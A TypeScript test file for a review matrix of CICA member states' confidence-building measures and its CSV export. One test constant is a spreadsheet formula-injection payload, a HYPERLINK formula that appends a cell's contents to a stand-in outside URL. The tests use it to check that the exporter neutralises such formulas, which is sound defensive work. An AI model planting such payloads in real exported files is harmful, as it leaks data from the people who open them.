import { describe, expect, it } from 'vitest';
import { CICA_REGISTRY, MEMBERS, reported, seedState, selected, unselected } from '../../../test/support/catalogue.ts';
import { foldCatalogue } from './apply-catalogue-event.ts';
import { allMeasures } from './catalogue.ts';
import { catalogueScope } from './catalogue-scope.ts';
import { deriveCatalogue } from './derive-catalogue.ts';
import { csvField, reviewCsv } from './review-csv.ts';
import { reviewMatrix, type ReviewMatrix } from './review-matrix.ts';

const catalogue = deriveCatalogue(seedState());
const measure = (label: string): string => allMeasures(catalogue).find((m) => m.label === label)!.id;
const OBSERVERS = measure('2.1.2');
const SME = measure('2.3.1');
const CULTURE = measure('2.5.4');
const at = (day: string): string => `${day}T08:00:00.000Z`;
const INJECTION = '=HYPERLINK("https://example.org/?"&A2,"details")';

const log = foldCatalogue(
  [
    selected(OBSERVERS, 'KAZ', at('2021-02-01')),
    selected(SME, 'KAZ', at('2021-03-01'), ['RUS']),
    selected(SME, 'RUS', at('2021-03-05'), ['KAZ']),
    selected(CULTURE, 'TUR', at('2021-09-01')),
    reported(OBSERVERS, 'KAZ', '2021-H1', 'implemented', 'Observers attended.', at('2021-07-10')),
    reported(OBSERVERS, 'KAZ', '2021-H2', 'in-progress', INJECTION, at('2022-01-10')),
    reported(SME, 'RUS', '2021', 'planned', 'Fair "SME week",\nin Kazan', at('2022-01-15')),
    unselected(SME, 'KAZ', at('2022-03-01')),
    reported(CULTURE, 'TUR', '2022-H1', 'implemented', '-', at('2022-07-01')),
  ],
  catalogueScope(catalogue, MEMBERS),
);

function cell(matrix: ReviewMatrix, state: string, measureId: string): string {
  const row = matrix.states.indexOf(state);
  const column = matrix.measures.findIndex((m) => m.id === measureId);
  return matrix.cells[row]![column]!.status;
}

function statuses(matrix: ReviewMatrix): string[] {
  return [cell(matrix, 'KAZ', OBSERVERS), cell(matrix, 'KAZ', SME), cell(matrix, 'RUS', SME), cell(matrix, 'TUR', CULTURE), cell(matrix, 'IND', SME)];
}

describe('reviewMatrix', () => {
  it('is every member state against every measure', () => {
    const matrix = reviewMatrix(catalogue, log, { members: MEMBERS });
    expect(matrix.states).toEqual(MEMBERS);
    expect(matrix.measures.map((m) => m.label)).toEqual(allMeasures(catalogue).map((m) => m.label));
    expect(matrix.cells).toHaveLength(27);
    expect(matrix.cells.every((row) => row.length === 57)).toBe(true);
    expect(matrix.cells.flat().filter((c) => c.status === 'not-selected')).toHaveLength(27 * 57 - 4);
  });

  it('shows the present: the current selection, its latest report, and withdrawals', () => {
    const matrix = reviewMatrix(catalogue, log, { members: MEMBERS });
    expect(matrix.period).toBeNull();
    expect(statuses(matrix)).toEqual(['in-progress', 'withdrawn', 'planned', 'implemented', 'not-selected']);
    const row = matrix.states.indexOf('RUS');
    const column = matrix.measures.findIndex((m) => m.id === SME);
    expect(matrix.cells[row]![column]).toEqual({
      status: 'planned',
      mode: 'bilateral',
      partners: ['KAZ'],
      report: { period: '2021', status: 'planned', text: 'Fair "SME week",\nin Kazan', at: at('2022-01-15') },
    });
  });

  it('shows a period: its reports (a year takes in its halves) and what was selected during it', () => {
    expect(statuses(reviewMatrix(catalogue, log, { members: MEMBERS, period: '2021' }))).toEqual(['in-progress', 'selected', 'planned', 'selected', 'not-selected']);
    expect(statuses(reviewMatrix(catalogue, log, { members: MEMBERS, period: '2021-H1' }))).toEqual(['implemented', 'selected', 'selected', 'not-selected', 'not-selected']);
    expect(statuses(reviewMatrix(catalogue, log, { members: MEMBERS, period: '2022-H1' }))).toEqual(['selected', 'selected', 'selected', 'implemented', 'not-selected']);
    expect(statuses(reviewMatrix(catalogue, log, { members: MEMBERS, period: '2023' }))).toEqual(['selected', 'withdrawn', 'selected', 'selected', 'not-selected']);
    expect(statuses(reviewMatrix(catalogue, log, { members: MEMBERS, period: '2020' }))).toEqual(['not-selected', 'not-selected', 'not-selected', 'not-selected', 'not-selected']);
    expect(() => reviewMatrix(catalogue, log, { members: MEMBERS, period: '2021-H3' })).toThrow('"2021-H3" is no period');
  });

  it('counts participation per dimension and per area, as shares of the member states', () => {
    const now = reviewMatrix(catalogue, log, { members: MEMBERS });
    expect(now.participation.dimensions.map((p) => [p.label, p.measures, p.states, p.selections, p.reporting])).toEqual([
      ['2.1', 5, 1, 1, 1],
      ['2.2', 17, 0, 0, 0],
      ['2.3', 14, 1, 1, 1],
      ['2.4', 6, 0, 0, 0],
      ['2.5', 15, 1, 1, 1],
    ]);
    expect(now.participation.dimensions[0]!.share).toBeCloseTo(1 / 27, 10);
    const in2021 = reviewMatrix(catalogue, log, { members: MEMBERS, period: '2021' });
    const sme = in2021.participation.areas.find((a) => a.title === 'Small and medium enterprises (SMEs)')!;
    expect(sme).toMatchObject({ measures: 1, states: 2, selections: 2, reporting: 1 });
    expect(sme.share).toBeCloseTo(2 / 27, 10);
    expect(in2021.participation.areas).toHaveLength(17);
    expect(reviewMatrix(catalogue, log, { members: [] }).participation.dimensions.every((p) => p.share === 0)).toBe(true);
  });

  it('gives the trend period by period, earliest first, a year before its halves', () => {
    const { trends } = reviewMatrix(catalogue, log, { members: MEMBERS });
    expect(trends.map((t) => [t.period, t.statesSelecting, t.statesReporting, t.reports, t.byStatus.implemented, t.byStatus['in-progress'], t.byStatus.planned])).toEqual([
      ['2021', 3, 1, 1, 0, 0, 1],
      ['2021-H1', 2, 1, 1, 1, 0, 0],
      ['2021-H2', 3, 1, 1, 0, 1, 0],
      ['2022-H1', 3, 1, 1, 1, 0, 0],
    ]);
    expect(trends[1]).toMatchObject({ start: '2021-01-01', end: '2021-07-01' });
    // Only member states count: the same log reviewed for an organisation without Russia.
    expect(reviewMatrix(catalogue, log, { members: MEMBERS.filter((m) => m !== 'RUS') }).trends[0]).toMatchObject({ period: '2021', statesSelecting: 2, reports: 0 });
  });
});

/** RFC 4180, read back independently of the writer. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  expect(field).toBe('');
  return rows;
}

describe('reviewCsv', () => {
  it('quotes fields as RFC 4180 asks and defuses spreadsheet formulas', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+CHN')).toBe("'+CHN");
    expect(csvField('-')).toBe("'-");
    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvField('\tcmd')).toBe("'\tcmd");
    expect(csvField(INJECTION)).toBe(`"'=HYPERLINK(""https://example.org/?""&A2,""details"")"`);
    expect(csvField('2.2.x')).toBe('2.2.x');
  });

  it('writes one row per state and measure, which reads back to the matrix', () => {
    const matrix = reviewMatrix(catalogue, log, { members: ['KAZ', 'RUS', 'TUR'], period: '2021' });
    const text = reviewCsv(matrix, { stateName: (code) => CICA_REGISTRY.displayName(code, 'en') });
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['period', 'state', 'state_name', 'measure_id', 'measure', 'measure_text', 'status', 'mode', 'partners', 'report_period', 'report']);
    expect(rows).toHaveLength(3 * 57);
    const kaz = rows.find((r) => r[1] === 'KAZ' && r[3] === OBSERVERS)!;
    expect(kaz).toEqual(['2021', 'KAZ', 'Kazakhstan', OBSERVERS, '2.1.2', 'Inviting observers from Member States to military exercises.', 'in-progress', 'multilateral', '', '2021-H2', `'${INJECTION}`]);
    expect(rows.find((r) => r[1] === 'RUS' && r[3] === SME)!.slice(6)).toEqual(['planned', 'bilateral', 'KAZ', '2021', 'Fair "SME week",\nin Kazan']);
    expect(rows.every((r) => r.length === header!.length)).toBe(true);
  });

  it('writes the matrix as on screen, telling apart the two measures numbered 2.3.3', () => {
    const matrix = reviewMatrix(catalogue, log, { members: ['KAZ', 'TUR'], period: '2022-H1' });
    const [header, kaz, tur] = parseCsv(reviewCsv(matrix, { layout: 'wide' }));
    const twice = allMeasures(catalogue).filter((m) => m.label === '2.3.3').map((m) => `2.3.3 (${m.id})`);
    expect(header!.slice(0, 4)).toEqual(['state', 'state_name', '2.1.1', '2.1.2']);
    expect(header!.filter((h) => h.startsWith('2.3.3'))).toEqual(twice);
    expect(header).toHaveLength(2 + 57);
    expect(kaz![header!.indexOf('2.1.2')]).toBe('selected');
    expect(kaz![header!.indexOf('2.3.1')]).toBe('selected');
    expect(tur![header!.indexOf('2.5.4')]).toBe('implemented');
    expect(tur!.filter((s) => s === 'not-selected')).toHaveLength(56);
  });
});
